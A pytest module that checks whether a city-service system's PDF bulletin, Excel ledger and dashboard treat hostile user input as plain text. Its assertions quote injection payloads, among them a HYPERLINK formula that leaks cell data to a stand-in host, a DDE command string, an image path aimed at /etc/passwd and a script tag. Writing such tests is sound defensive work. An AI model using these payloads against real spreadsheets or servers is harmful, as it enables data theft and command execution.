"""Text is data in every export: the bulletin, the ledger and the big screen (issue 11).

Orders are filed with the hostile corpus of ``tests.fixtures.hostile`` in every field those show
(title, district, street, and the rest of the request); the month's bulletin and ledger are
fetched over HTTP and read back: the PDF embeds no image (an ``<img src="/etc/passwd"/>``
district once failed it with a 500, a real image path embedded a server file), shows the
characters as typed; the workbook's XML holds no formula and its cells read back unchanged.
"""

from __future__ import annotations

import io
import re
import zipfile
from importlib import resources

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.fixtures import hostile
from tests.fixtures.city import Api, Clock

#: What an export shows as U+FFFD.
CONTROL_SHOWN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")

#: The district of 15 orders (the issue's count): it becomes the month's hottest district.
HOT = hostile.PASSWD_IMAGE


def _file(api: Api, clock: Clock, overdue: bool = True) -> list[dict]:  # type: ignore[type-arg]
    orders = []
    for text in hostile.ALL:
        orders.append(
            api.dispatched(
                "ZJJ",
                title=hostile.short(text),
                description=text,
                address=text,
                district=hostile.short(text),
                street=hostile.short(text),
                citizen={"name": hostile.short(text, 50), "phone": "13912345678"},
            )
        )
    for _ in range(15):
        orders.append(api.dispatched("CGJ", category_code="0201", district=HOT, street=HOT, title=HOT))
    if overdue:
        clock.advance(days=9)  # every reply is overdue: the titles are in the bulletin's overdue list
    return orders


def _stored(api: Api, orders: list[dict]) -> set[str]:  # type: ignore[type-arg]
    """The titles as the server keeps them (stripped of edge whitespace, cut to fit)."""
    return {api.order(o["id"])["title"] for o in orders}


def test_the_bulletin_shows_hostile_text_as_text_and_reads_no_file(api: Api, clock: Clock) -> None:
    orders = _file(api, clock)
    response = api.get("/measures/bulletin", "agent", params={"month": "2026-11"})
    assert response.status_code == 200, response.text
    pdf = response.content
    assert b"/Subtype /Image" not in pdf and b"/Subtype/Image" not in pdf
    reader = PdfReader(io.BytesIO(pdf))
    assert all(not page.images for page in reader.pages)
    text = re.sub(r"\s+", "", "".join(page.extract_text() for page in reader.pages))
    assert 'src="/etc/passwd"/>' in text  # the hot district and the overdue titles, as typed
    assert "root:x:0:0" not in text
    for shown in ("<b>加粗</b>", "</para><para>断开段落", "<script>alert('x')</script>", "&amp;&lt;"):
        assert shown in text, shown
    assert '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")' in text
    assert len(_stored(api, orders)) > 10


def test_the_ledger_keeps_formulas_as_text(api: Api, clock: Clock) -> None:
    orders = _file(api, clock)
    response = api.get("/measures/bulletin", "agent", params={"month": "2026-11", "format": "xlsx"})
    assert response.status_code == 200, response.text
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, f"a formula in {name}"
    book = load_workbook(io.BytesIO(response.content))
    ledger = book["工作台账"]
    header = [c.value for c in ledger[1]]
    titles = {row[header.index("标题")] for row in ledger.iter_rows(min_row=2, values_only=True)}
    assert titles == _stored(api, orders)
    dangerous = [
        cell
        for row in ledger.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@"
    ]
    assert len(dangerous) >= 3 * 6  # title, district and street of six formula-like texts
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in dangerous)
    assert any(c.value == "=cmd|' /C calc'!A0" for c in dangerous)


def test_characters_a_workbook_cannot_hold_are_replaced_not_a_500(api: Api) -> None:
    """One ESC or vertical tab in a title failed the month's ledger and bulletin (openpyxl's
    IllegalCharacterError) — the API and the CLI alike, for everyone, until the order left the month."""
    orders = [
        api.dispatched("ZJJ", title=text, description=text, district=text, street=text) for text in hostile.CONTROL
    ]
    assert {api.order(o["id"])["title"] for o in orders} == set(hostile.CONTROL)  # the server keeps them as given
    assert api.get("/measures/bulletin", "agent", params={"month": "2026-11"}).status_code == 200
    response = api.get("/measures/bulletin", "agent", params={"month": "2026-11", "format": "xlsx"})
    assert response.status_code == 200, response.text
    ledger = load_workbook(io.BytesIO(response.content))["工作台账"]
    header = [c.value for c in ledger[1]]
    rows = list(ledger.iter_rows(min_row=2, values_only=True))
    shown = {CONTROL_SHOWN.sub("\ufffd", text) for text in hostile.CONTROL}
    for column in ("标题", "区域", "街道"):
        assert {row[header.index(column)] for row in rows} == shown, column


def test_the_big_screen_sets_text_never_markup(api: Api, clock: Clock, app) -> None:  # type: ignore[no-untyped-def]
    _file(api, clock, overdue=False)  # the wall's rising places are this week's
    script = resources.files("server.screen").joinpath("static", "screen.js").read_text(encoding="utf-8")
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", 'setAttribute("on'):
        assert sink not in script, sink
    wall = TestClient(app, client=("127.0.0.1", 50000))  # the machine itself needs no key
    response = wall.get("/screen/data")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["x-content-type-options"] == "nosniff"
    places = [p["name"] for p in response.json()["hot_places"]]
    assert HOT in places
